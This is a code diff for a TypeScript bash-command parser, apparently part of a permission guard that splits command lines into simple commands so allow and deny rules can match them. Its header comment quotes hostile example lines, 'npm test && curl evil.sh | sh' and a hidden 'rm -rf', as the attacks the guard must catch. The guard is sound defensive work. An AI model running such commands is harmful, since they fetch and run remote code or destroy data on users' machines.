@@ -1,200 +1,336 @@
 /**
  * What a bash command line really runs. A rule like `Bash(npm test *)` must not approve
- * `npm test && curl evil.sh | sh`, so before matching we take the line apart with a real
- * shell-words parser (shell-quote) — never by splitting strings on spaces or `&&`:
+ * `npm test && curl evil.sh | sh`, and `Bash(rm *)` in deny must see the rm in
+ * `ls a#b; { /bin/rm -rf x; }`. So before matching we parse the line with a real bash
+ * grammar (tree-sitter-bash, see bash-parser.ts) and collect every *simple command* in the
+ * syntax tree — in pipelines and lists, `( )` and `{ }`, if/while/for/case bodies,
+ * functions, `!`, substitutions, and the scripts of nested shells:
  *
  *   timeout 60 npm test && echo "a && b" > out.txt
  *   └── simple command ─┘    └─ one word ─┘ └ writes out.txt
  *   core: npm test            core: echo a && b
  *
  * Each simple command keeps its words, its *core* (the words after wrappers like
- * `timeout 60` and `FOO=1` prefixes, which is what rules match), the files it writes
- * through redirections, and — when it hides another command in `$(...)`, backticks, `<(...)`
- * or `bash -c "..."` — why no allow rule may approve it.
+ * `timeout 60` and `FOO=1` prefixes, which is what allow rules match), the core with the
+ * program by its name alone (`/bin/rm` is rm: what deny rules and the refuse-list also
+ * see), the files it writes through redirections — and, when we cannot account for all it
+ * does, why it is *opaque*: no allow rule and no mode short of bypassPermissions may approve
+ * it. Opaque is the default for anything not understood: a line bash would not parse, a
+ * program name that is a `$VAR`, `eval`, a `$(...)`, a node type this file does not model.
  */
-import { parse, type ParseEntry } from "shell-quote";
-import { stripWrappers } from "./wrappers.ts";
+import { withSyntaxTree, type SyntaxNode } from "./bash-parser.ts";
+import { SUBSTITUTIONS, wordOf, type BashWord } from "./bash-words.ts";
+import { innerCommandsOf } from "./inner-commands.ts";
+import { programName, stripWrappers } from "./wrappers.ts";
 
 export interface ShellCommand {
   /** All its words, quotes removed: `timeout 60 npm test` */
   text: string;
   /** The words after wrappers and VAR=value prefixes: `npm test` */
   core: string;
+  /** The core as words, the program by its name alone: `/bin/rm -rf x` → ["rm", "-rf", "x"]. */
+  words: string[];
   /** Files it writes through `>`, `>>`, `&>`... (never /dev/null and friends). */
   writes: string[];
-  /** Why no allow rule may approve it: it runs a command we cannot see in advance. */
+  /** Why no allow rule may approve it: we cannot account in advance for all it runs. */
   opaque?: string;
 }
 
-/** Operators that end one simple command and start the next. */
-const SEPARATORS = new Set(["&&", "||", ";", "|", "&", "|&", ";;", ";&", ";;&", "(", ")"]);
+/** Nodes that only hold other statements (or words, scanned for substitutions). */
+const CONTAINERS = new Set([
+  "program", "list", "pipeline", "subshell", "compound_statement", "do_group", "negated_command",
+  "if_statement", "elif_clause", "else_clause", "while_statement", "for_statement", "c_style_for_statement",
+  "case_statement", "case_item", "function_definition",
+]);
+/** Statements that are commands without a program: `export A=1`, `x=1`, `[[ -f x ]]`. */
+const BUILTIN_STATEMENTS = new Set(["declaration_command", "unset_command", "variable_assignment", "variable_assignments", "test_command"]);
+/** Nodes that never run anything. */
+const INERT = new Set(["comment", "heredoc_start", "heredoc_end", "heredoc_content", "variable_name", "file_descriptor", "test_operator"]);
+const REDIRECTS = new Set(["file_redirect", "heredoc_redirect", "herestring_redirect"]);
 /** Redirections whose target is a file the command writes. */
 const WRITE_REDIRECTS = new Set([">", ">>", ">|", "&>", "&>>", "<>", ">&"]);
-/** Redirections whose target is read, or is a here-document's delimiter. */
-const READ_REDIRECTS = new Set(["<", "<<", "<<<", "<<-", "<&"]);
 /** Writing to these changes no file. */
 const HARMLESS_TARGETS = new Set(["/dev/null", "/dev/stdout", "/dev/stderr", "/dev/tty"]);
-/** Shells whose `-c` argument is a whole other command line. */
-const NESTED_SHELLS = new Set(["bash", "sh", "zsh", "dash"]);
-
-const SUBSTITUTION = /\$\(|`/;
-
-type Op = { op: string };
-const isOp = (t: ParseEntry): t is Op & ParseEntry => typeof t === "object" && "op" in t && t.op !== "glob";
-const isGlob = (t: ParseEntry | undefined) => typeof t === "object" && "op" in t && t.op === "glob";
+/** Bash keywords: as the first word of a command, the parser has misread the line. */
+const KEYWORDS = new Set(["{", "}", "(", ")", "!", "if", "then", "elif", "else", "fi", "do", "done", "case", "esac", "while", "until", "for", "select", "in", "function", "[[", "]]", "time", "coproc"]);
+/** `bash -c "bash -c \"...\""`: past this depth we stop looking and call it opaque. */
+const MAX_NESTING = 8;
 
 /**
  * Parse a command line into its simple commands, in order; commands hidden inside
  * substitutions and nested shells come along too (marked opaque), so deny rules see them.
  */
 export function parseCommandLine(line: string): ShellCommand[] {
-  // shell-quote reads a newline as a space: `echo hi⏎rm -rf x` would look like one echo.
-  // A newline separates commands like `;` does (a `\` before it continues the line).
-  const prepared = line.replace(/\\\r?\n/g, " ").replace(/\r?\n/g, " ; ");
-  // Keep `$VAR` as text instead of letting the parser expand it to "" (its default).
-  const tokens = parse(prepared, (name: string) => `$${name}`);
-  return splitCommands(tokens);
+  return analyse(line, 0);
 }
 
-/** Walk the tokens: words build the current command, operators end it or redirect it. */
-function splitCommands(tokens: readonly ParseEntry[]): ShellCommand[] {
-  const current = new CommandCollector();
-  for (let i = 0; i < tokens.length; i++) {
-    const token = tokens[i]!;
-    if (typeof token === "string") i = onWord(tokens, i, current);
-    else if ("comment" in token) continue;
-    else if (token.op === "glob") current.word((token as { pattern: string }).pattern);
-    else if (token.op === "<(" || token.op === ">(") i = onProcessSubstitution(tokens, i, current);
-    else if (WRITE_REDIRECTS.has(token.op) || READ_REDIRECTS.has(token.op)) i = onRedirect(tokens, i, current);
-    else if (SEPARATORS.has(token.op)) current.end();
-  }
-  current.end();
-  return current.commands;
+function analyse(line: string, depth: number): ShellCommand[] {
+  const result = withSyntaxTree(line, (root) => {
+    const walker = new CommandWalker(depth);
+    walker.visit(root, undefined);
+    if (!root.hasError) return walker.commands;
+    return markOpaque([...walker.commands, ...roughCommands(line)], `bash cannot parse it (${syntaxErrorNear(root)})`);
+  });
+  return Array.isArray(result) ? result : [opaqueLine(line, result.unparsed)];
 }
 
-/** Collects the words of one simple command at a time; `end()` files it. */
-class CommandCollector {
+/** What a redirection adds to the command it belongs to. */
+interface Redirections {
+  writes: string[];
+  substitutions: SyntaxNode[];
+  opaque?: string;
+  /** A here-document's line can go on: `cat <<EOF | grep x` parses the `| grep x` inside it. */
+  statements: SyntaxNode[];
+}
+
+const noRedirections = (): Redirections => ({ writes: [], substitutions: [], statements: [] });
+
+/** Walks the syntax tree and files one ShellCommand per simple command it meets. */
+class CommandWalker {
   readonly commands: ShellCommand[] = [];
-  private words: string[] = [];
-  private writes: string[] = [];
-  private opaque: string | undefined;
-  private hidden: ShellCommand[] = [];
+  constructor(private readonly depth: number) {}
 
-  word(word: string): void {
-    this.words.push(word);
+  /** `hidden`: why the commands found here are opaque (they run inside a substitution). */
+  visit(node: SyntaxNode, hidden: string | undefined): void {
+    if (node.type === "command") this.command(node, noRedirections(), hidden);
+    else if (node.type === "redirected_statement") this.redirected(node, hidden);
+    else if (SUBSTITUTIONS.has(node.type)) this.substitution(node);
+    else if (BUILTIN_STATEMENTS.has(node.type)) this.builtinStatement(node, hidden);
+    else if (CONTAINERS.has(node.type)) this.children(node, hidden);
+    else if (INERT.has(node.type)) return;
+    else if (node.type === "ERROR") this.children(node, hidden); // the whole line is opaque anyway
+    else this.word(node, hidden);
   }
 
-  write(target: string): void {
-    this.writes.push(target);
+  private children(node: SyntaxNode, hidden: string | undefined): void {
+    for (const child of node.namedChildren) if (child) this.visit(child, hidden);
   }
 
-  /** `2>` arrives as the word "2" then ">": the 2 is a file descriptor, not an argument. */
-  dropDescriptor(): void {
-    if (this.words.length > 1 && /^\d+$/.test(this.words.at(-1)!)) this.words.pop();
+  /** A word outside a command (a for list, a case pattern): only its substitutions run. */
+  private word(node: SyntaxNode, hidden: string | undefined): void {
+    const word = wordOf(node);
+    if (word.unknown) this.add(opaqueLine(node.text, unmodelled(word.unknown)), hidden);
+    for (const s of word.substitutions) this.substitution(s);
   }
 
-  /** This command runs `commands` we cannot approve in advance. */
-  hide(commands: ShellCommand[], why: string, ownWhy: string): void {
-    this.hidden.push(...markOpaque(commands, why));
-    this.opaque = ownWhy;
+  /** `$(...)`, backticks, `<(...)`: the commands inside run, and nobody approved them. */
+  private substitution(node: SyntaxNode): void {
+    const why = node.type === "process_substitution" ? "it runs inside a <(...) or >(...) substitution" : "it runs inside a $(...) or backtick substitution";
+    this.children(node, why);
   }
 
-  makeOpaque(why: string): void {
-    this.opaque = why;
+  /** `export A=1`, `x=$(id)`, `[[ -f x ]]`: a command named by its keyword. */
+  private builtinStatement(node: SyntaxNode, hidden: string | undefined): void {
+    const words = statementWords(node);
+    const parts = node.type === "variable_assignment" ? [partOf(node)] : node.namedChildren.flatMap((c) => (c ? [partOf(c)] : []));
+    const command = simple(words, words, []);
+    const unknown = parts.find((p) => p.unknown)?.unknown;
+    const substitutions = parts.flatMap((p) => p.substitutions);
+    const why = firstReason(unknown && unmodelled(unknown), substitutions.length ? substitutionReason(substitutions) : undefined);
+    if (why) command.opaque = why;
+    this.add(command, hidden);
+    for (const s of substitutions) this.substitution(s);
   }
 
-  end(): void {
-    if (this.words.length > 0 || this.writes.length > 0) this.commands.push(...simpleCommand(this.words, this.writes, this.opaque));
-    this.commands.push(...this.hidden);
-    this.words = [];
-    this.writes = [];
-    this.opaque = undefined;
-    this.hidden = [];
+  /** `cmd > out`, `{ ...; } 2> err`, `while ...; done < in`: the redirections belong to the body. */
+  private redirected(node: SyntaxNode, hidden: string | undefined): void {
+    const body = node.childForFieldName("body");
+    const redirections = noRedirections();
+    for (const child of node.namedChildren) if (child && child !== body && REDIRECTS.has(child.type)) this.redirection(child, redirections);
+    if (body?.type === "command") this.command(body, redirections, hidden);
+    else {
+      const first = this.commands.length;
+      if (body) this.visit(body, hidden);
+      const owner = this.commands[first];
+      if (owner) attach(owner, redirections);
+      else this.add(withRedirections(simple([], [], []), redirections), hidden);
+      for (const s of redirections.substitutions) this.substitution(s);
+    }
+    for (const statement of redirections.statements) this.visit(statement, hidden);
+  }
+
+  /** One redirection: note the file written, the substitutions run, the statements that follow. */
+  private redirection(node: SyntaxNode, into: Redirections): void {
+    if (node.type !== "file_redirect") {
+      // `<<EOF` (its body, maybe more redirections and the rest of the line) or `<<< word`
+      for (const child of node.namedChildren) {
+        if (!child || INERT.has(child.type)) continue;
+        if (child.type === "file_redirect") this.redirection(child, into);
+        else if (isStatement(child)) into.statements.push(child);
+        else {
+          const word = wordOf(child);
+          into.substitutions.push(...word.substitutions);
+          if (word.unknown) into.opaque ??= unmodelled(word.unknown);
+        }
+      }
+      return;
+    }
+    const operator = node.children.find((c) => c && !c.isNamed)?.type ?? "";
+    const [destination, ...extra] = node.namedChildren.filter((c): c is SyntaxNode => c !== null && c.type !== "file_descriptor");
+    if (extra.length) into.opaque ??= `it has a redirection we cannot read (${node.text})`;
+    if (!destination) return;
+    const target = wordOf(destination);
+    into.substitutions.push(...target.substitutions);
+    if (!WRITE_REDIRECTS.has(operator)) return;
+    if (target.unknown) into.opaque ??= unmodelled(target.unknown);
+    else if (/[*?[]/.test(target.text)) into.opaque ??= `it redirects output to something we cannot read (${operator} ${target.text})`;
+    else if (isFileTarget(operator, target.text)) into.writes.push(target.text);
+  }
+
+  /** A simple command: assignments, a name, arguments, redirections. */
+  private command(node: SyntaxNode, redirections: Redirections, hidden: string | undefined): void {
+    const assignments: BashWord[] = [];
+    const words: BashWord[] = [];
+    for (const child of node.namedChildren) {
+      if (!child) continue;
+      if (child.type === "variable_assignment") assignments.push(partOf(child));
+      else if (REDIRECTS.has(child.type)) this.redirection(child, redirections);
+      else if (child.type === "command_name" && child.firstNamedChild) words.push(wordOf(child.firstNamedChild));
+      else words.push(wordOf(child));
+    }
+    this.simpleCommand(words, assignments, redirections, hidden);
+    for (const statement of redirections.statements.splice(0)) this.visit(statement, hidden);
+  }
+
+  private simpleCommand(words: BashWord[], assignments: BashWord[], redirections: Redirections, hidden: string | undefined): void {
+    const { core, misread } = coreOf(words);
+    const command = withRedirections(simple([...assignments, ...words].map((w) => w.text), core.map((w) => w.text), []), redirections);
+    const all = [...assignments, ...words];
+    const substitutions = all.flatMap((w) => w.substitutions);
+    const unknown = all.find((w) => w.unknown)?.unknown;
+    const nameUnknown = [words[0], core[0]].find((w) => w !== undefined && !w.literal);
+    const inner = innerCommandsOf(core);
+    const tooDeep = inner?.script !== undefined && this.depth >= MAX_NESTING;
+    const why = firstReason(
+      misread && `bash reads "${misread}" as a keyword here, which this guard cannot follow`,
+      unknown && unmodelled(unknown),
+      nameUnknown && `the program it runs is not known in advance (${nameUnknown.text})`,
+      substitutions.length ? substitutionReason(substitutions) : undefined,
+      tooDeep ? "it nests shells too deeply to follow" : inner?.opaque,
+    );
+    if (why) command.opaque ??= why;
+    this.add(command, hidden);
+    for (const s of [...redirections.substitutions, ...substitutions]) this.substitution(s);
+    if (inner?.script !== undefined && !tooDeep) this.commands.push(...markOpaque(analyse(inner.script, this.depth + 1), "it runs inside a nested shell"));
+    for (const words of inner?.commands ?? []) this.simpleCommand(words, [], noRedirections(), hidden);
+  }
+
+  private add(command: ShellCommand, hidden: string | undefined): void {
+    if (hidden) command.opaque ??= hidden;
+    this.commands.push(command);
   }
 }
 
-/** A word — or the start of `$(...)`, which arrives as the word "$" (or "x=$") then "(". */
-function onWord(tokens: readonly ParseEntry[], i: number, current: CommandCollector): number {
-  const word = tokens[i] as string;
-  const next = tokens[i + 1];
-  if (word.endsWith("$") && next !== undefined && isOp(next) && next.op === "(") {
-    const inner = enclosed(tokens, i + 1);
-    current.hide(splitCommands(inner.tokens), "it runs inside a $(...) substitution", "it runs a command substitution $(...)");
-    if (word.length > 1) current.word(word.slice(0, -1));
-    return inner.end;
+/**
+ * The words after wrappers. `time { rm x; }` and `coproc { ...; }` are bash grammar the
+ * parser does not know: it reads `{` as a program. We step over such keywords (and the
+ * wrappers after them) so that deny rules still see `rm x`, and say the line was misread.
+ */
+function coreOf(words: BashWord[]): { core: BashWord[]; misread?: string } {
+  let core = words;
+  let misread: string | undefined;
+  for (;;) {
+    core = core.slice(core.length - stripWrappers(core.map((w) => w.text)).length);
+    if (core[0] === undefined || !KEYWORDS.has(core[0].text)) return misread ? { core, misread } : { core };
+    misread ??= core[0].text;
+    core = core.slice(1);
   }
-  if (SUBSTITUTION.test(word)) {
-    // Inside double quotes the parser leaves "$(id)" or `id` as text; bash would run it. In
-    // single quotes bash would not, but the parser's output cannot tell the two apart — so
-    // both count, and at worst a harmless `echo '$(x)'` is asked about.
-    current.hide(innerCommandsOf(word), "it runs inside a $(...) or backtick substitution", "it runs a command substitution ($(...) or backticks)");
-  }
-  current.word(word);
-  return i;
 }
 
-/** `<(ls a)`: a command whose output becomes a file name. */
-function onProcessSubstitution(tokens: readonly ParseEntry[], i: number, current: CommandCollector): number {
-  const op = (tokens[i] as Op).op;
-  const inner = enclosed(tokens, i);
-  current.hide(splitCommands(inner.tokens), `it runs inside a ${op}...) substitution`, `it runs a process substitution ${op}...)`);
-  return inner.end;
+const unmodelled = (type: string) => `it uses bash syntax this guard does not model (${type})`;
+
+function firstReason(...reasons: (string | undefined | false | "")[]): string | undefined {
+  return reasons.find((r): r is string => typeof r === "string" && r !== "");
 }
 
-/** `> out.txt`, `2>&1`, `< in.txt`: note the files written; the target is not an argument. */
-function onRedirect(tokens: readonly ParseEntry[], i: number, current: CommandCollector): number {
-  const op = (tokens[i] as Op).op;
-  current.dropDescriptor();
-  const target = tokens[i + 1];
-  const consumed = typeof target === "string" || isGlob(target) ? i + 1 : i;
-  if (!WRITE_REDIRECTS.has(op)) return consumed;
-  if (typeof target !== "string") current.makeOpaque(`it redirects output to something we cannot read (${op})`);
-  else if (isFileTarget(op, target)) current.write(target);
-  return consumed;
+/** A word, or an assignment `A=value` (the substitutions of its value and subscript count). */
+function partOf(node: SyntaxNode): BashWord {
+  if (node.type !== "variable_assignment") return wordOf(node);
+  const pieces = ["name", "value"].map((f) => node.childForFieldName(f)).filter((c): c is SyntaxNode => c !== null && c.type !== "variable_name").map(wordOf);
+  const unknown = pieces.find((p) => p.unknown)?.unknown;
+  return { text: statementWords(node).join(" "), literal: true, substitutions: pieces.flatMap((p) => p.substitutions), ...(unknown ? { unknown } : {}) };
+}
+
+function isStatement(node: SyntaxNode): boolean {
+  return node.type === "command" || node.type === "redirected_statement" || CONTAINERS.has(node.type) || BUILTIN_STATEMENTS.has(node.type);
+}
+
+function substitutionReason(substitutions: SyntaxNode[]): string {
+  return substitutions.some((s) => s.type === "process_substitution")
+    ? "it runs a process substitution <(...) or >(...)"
+    : "it runs a command substitution ($(...) or backticks)";
+}
+
+/** The words of a keyword statement: `export A=1 B` → ["export", "A=1", "B"]. */
+function statementWords(node: SyntaxNode): string[] {
+  if (node.type === "variable_assignment") {
+    const value = node.childForFieldName("value");
+    return [`${node.childForFieldName("name")?.text ?? ""}=${value ? wordOf(value).text : ""}`];
+  }
+  if (node.type === "test_command") return node.text.split(/\s+/).filter(Boolean);
+  return node.children.flatMap((c) => (!c ? [] : c.type === "variable_assignment" ? statementWords(c) : c.isNamed ? [wordOf(c).text] : /^\w/.test(c.type) ? [c.type] : []));
+}
+
+function simple(text: string[], core: string[], writes: string[]): ShellCommand {
+  const words = core.length ? [programName(core[0]!), ...core.slice(1)] : [];
+  return { text: text.join(" "), core: core.join(" "), words, writes };
+}
+
+function withRedirections(command: ShellCommand, redirections: Redirections): ShellCommand {
+  attach(command, redirections);
+  return command;
+}
+
+function attach(command: ShellCommand, redirections: Redirections): void {
+  command.writes.push(...redirections.writes);
+  if (redirections.opaque) command.opaque ??= redirections.opaque;
+  if (redirections.substitutions.length) command.opaque ??= substitutionReason(redirections.substitutions);
 }
 
 /** `>&2` and `2>&1` duplicate a descriptor; `>& file` writes the file. */
-function isFileTarget(op: string, target: string): boolean {
-  if ((op === ">&" || op === "<&") && /^(\d+|-)$/.test(target)) return false;
+function isFileTarget(operator: string, target: string): boolean {
+  if ((operator === ">&" || operator === "<&") && /^(\d+|-)$/.test(target)) return false;
   return !HARMLESS_TARGETS.has(target);
-}
-
-/** The tokens between the "(" at `open` and its matching ")". */
-function enclosed(tokens: readonly ParseEntry[], open: number): { tokens: ParseEntry[]; end: number } {
-  let depth = 0;
-  for (let i = open; i < tokens.length; i++) {
-    const t = tokens[i]!;
-    if (isOp(t) && (t.op === "(" || t.op === "<(" || t.op === ">(")) depth++;
-    if (isOp(t) && t.op === ")" && --depth === 0) return { tokens: tokens.slice(open + 1, i), end: i };
-  }
-  return { tokens: tokens.slice(open + 1), end: tokens.length - 1 };
-}
-
-/** The command lines inside `$(...)` and backticks of one word. */
-function innerCommandsOf(word: string): ShellCommand[] {
-  const inner = [...word.matchAll(/\$\(([^()]*(?:\([^()]*\)[^()]*)*)\)?|`([^`]*)`?/g)].map((m) => m[1] ?? m[2] ?? "");
-  return inner.filter((text) => text.trim() !== "").flatMap(parseCommandLine);
 }
 
 function markOpaque(commands: ShellCommand[], why: string): ShellCommand[] {
   return commands.map((c) => ({ ...c, opaque: c.opaque ?? why }));
 }
 
-/** One simple command — and, for `bash -c "..."` or `eval ...`, the commands it would run. */
-function simpleCommand(words: string[], writes: string[], opaque: string | undefined): ShellCommand[] {
-  const core = stripWrappers(words);
-  const script = nestedScript(core);
-  const command: ShellCommand = { text: words.join(" "), core: core.join(" "), writes };
-  if (script !== undefined) command.opaque = `it runs a nested shell (${core.slice(0, 2).join(" ")} ...)`;
-  else if (opaque) command.opaque = opaque;
-  return script === undefined ? [command] : [command, ...markOpaque(parseCommandLine(script), "it runs inside a nested shell")];
+function opaqueLine(text: string, why: string): ShellCommand {
+  return { ...simple([text], text.split(/\s+/).filter(Boolean), []), opaque: why };
 }
 
-/** The command line a nested shell would run: `bash -c "..."`, `eval ...`. */
-function nestedScript(core: readonly string[]): string | undefined {
-  const [program, flag, script] = core;
-  if (program === "eval") return core.slice(1).join(" ");
-  if (program !== undefined && NESTED_SHELLS.has(program) && flag === "-c") return script ?? "";
+/** Where the syntax error is: the text of the first ERROR or MISSING node. */
+function syntaxErrorNear(root: SyntaxNode): string {
+  const bad = findNode(root, (n) => n.isError || n.isMissing);
+  if (!bad) return "a syntax error";
+  if (bad.isMissing) return `missing "${bad.type}"`;
+  const text = bad.text.trim().replace(/\s+/g, " ");
+  return text ? `near "${text.length > 40 ? `${text.slice(0, 37)}...` : text}"` : "a syntax error";
+}
+
+function findNode(node: SyntaxNode, test: (n: SyntaxNode) => boolean): SyntaxNode | undefined {
+  if (test(node)) return node;
+  for (const child of node.children) {
+    const found = child && findNode(child, test);
+    if (found) return found;
+  }
   return undefined;
 }
 
+/**
+ * For a line bash cannot parse, a rough split on operators and keywords, so deny rules and
+ * the refuse-list still see likely commands (all opaque: this is a guess, never approved).
+ */
+function roughCommands(line: string): ShellCommand[] {
+  const keywords = /^(?:if|then|else|elif|fi|do|done|while|until|for|case|esac|in|!|\{|\}|time|function)$/;
+  return line
+    .split(/[;&|\n(){}`]|\$\(|\b(?:then|do|else)\b/)
+    .map((part) => part.replace(/["']/g, "").trim().split(/\s+/).filter((w) => w && !keywords.test(w)))
+    .filter((words) => words.length > 0)
+    .map((words) => {
+      const core = stripWrappers(words);
+      return simple(words, core, []);
+    });
+}
